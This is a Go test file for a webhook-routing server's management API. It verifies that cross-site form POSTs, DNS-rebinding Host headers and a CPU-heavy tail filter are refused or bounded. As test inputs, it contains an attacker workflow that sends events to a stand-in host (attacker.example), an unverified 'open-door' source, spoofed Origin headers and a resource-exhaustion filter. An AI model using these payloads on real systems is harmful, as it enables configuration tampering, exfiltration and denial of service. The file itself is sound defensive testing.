package server_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/switchyardhq/switchyard/internal/config"
)

// A web page open in a browser on the server's machine must not be able to
// change the configuration (a cross-site form POST) or read it (DNS
// rebinding) while the management API trusts loopback clients.
func TestBrowserAttacksOnManagementAPI(t *testing.T) {
	s := newStack(t)
	workflow := `{"id":"exfil","trigger":{"source":"web"},"steps":[{"id":"s","action":"webhook.send","url":"https://attacker.example/x"}]}`
	source := `{"id":"open-door","kind":"webhook","verify":{"scheme":"none"}}`

	// Cross-site form posts: text/plain (what a <form enctype=text/plain>
	// sends), with the attacker's Origin or none at all.
	for _, h := range [][]string{
		{"Origin", "https://attacker.example"},
		{"Origin", "null"},
		{"Sec-Fetch-Site", "cross-site"},
		{},
	} {
		for path, body := range map[string]string{"/admin/v1/workflows": workflow, "/admin/v1/sources": source} {
			r := s.do(t, "POST", path, "text/plain", body, h...)
			if r.status != 403 && r.status != 400 {
				t.Fatalf("cross-site POST %s with %v: %d %s", path, h, r.status, r.body)
			}
		}
	}
	// A same-origin JSON request with the attacker's Origin is refused too.
	r := s.do(t, "POST", "/admin/v1/sources", "application/json", source, "Origin", "http://evil.example:8686")
	wantStatus(t, r, 403)
	wantStatus(t, s.do(t, "GET", "/admin/v1/workflows/exfil", "", ""), 404)
	wantStatus(t, s.do(t, "GET", "/admin/v1/sources/open-door", "", ""), 404)

	// DNS rebinding: the attacker's name resolves to 127.0.0.1, so its
	// page's requests carry its own Host. Refused, naming the setting.
	for _, path := range []string{"/admin/v1/sources", "/console/", "/console/sources", "/admin/v1/tail"} {
		r := s.doHost(t, "GET", path, "attacker.example:8686")
		wantStatus(t, r, 403)
		if !strings.Contains(string(r.body), "admin.allowed_hosts") {
			t.Fatalf("%s: refusal does not name admin.allowed_hosts: %s", path, r.body)
		}
	}
	// What is legitimate still works: localhost, an IP address, JSON from
	// a client that sends no Origin (curl, the CLI), the console's header.
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "localhost:8686"), 200)
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "[::1]:8686"), 200)
	wantStatus(t, s.do(t, "POST", "/admin/v1/sources", "application/json", source), 201)
	wantStatus(t, s.do(t, "DELETE", "/admin/v1/sources/open-door", "", ""), 204)
	wantStatus(t, s.do(t, "POST", "/admin/v1/sources", "application/json", source, "Origin", s.url, "Sec-Fetch-Site", "same-origin"), 201)
	// Ingest routes are for every origin and host, as before.
	wantStatus(t, s.doHost(t, "GET", "/healthz", "attacker.example"), 200)
}

func TestAllowedHosts(t *testing.T) {
	s := newStack(t, func(c *config.Config) { c.Admin.AllowedHosts = []string{"switchyard.example.com", "*.corp.example"} })
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "switchyard.example.com"), 200)
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "SwitchYard.Example.com:443"), 200)
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "cdp.corp.example"), 200)
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "corp.example.attacker.example"), 403)
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "example.com"), 403)
}

// doHost sends a request with the given Host header.
func (s *stack) doHost(t *testing.T, method, path, host string) reply {
	t.Helper()
	req, err := http.NewRequest(method, s.url+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = host
	return s.send(t, req)
}

// A tail filter that would build hundreds of megabytes from one public
// event (lists.range(300).map(…).join(”) over a 900 KB string) is
// stopped at once: the next event reaches the tail within a second
// instead of after seconds of CPU and hundreds of megabytes.
func TestTailFilterBounded(t *testing.T) {
	s := newStack(t)
	filter := "lists.range(300).map(i, event.properties.s).join('').size() > 0 || event.type == 'marker'"
	lines := s.openTail(t, "source=web&filter="+url.QueryEscape(filter))
	big := strings.Repeat("x", 900<<10)
	wantStatus(t, s.track(t, `{"source":{"id":"web"},"session":{"id":"cel-bomb"},"events":[{"type":"bomb","properties":{"s":"`+big+`"}}]}`), 200)
	sent := time.Now()
	wantStatus(t, s.track(t, `{"source":{"id":"web"},"session":{"id":"cel-bomb"},"events":[{"type":"marker"}]}`), 200)
	got := nextEvents(t, lines, 1)
	if len(got) != 1 || got[0]["type"] != "marker" {
		t.Fatalf("tail delivered %v, want the marker", got)
	}
	if took := time.Since(sent); took > 2*time.Second {
		t.Fatalf("the marker took %v to reach the tail", took)
	}
}
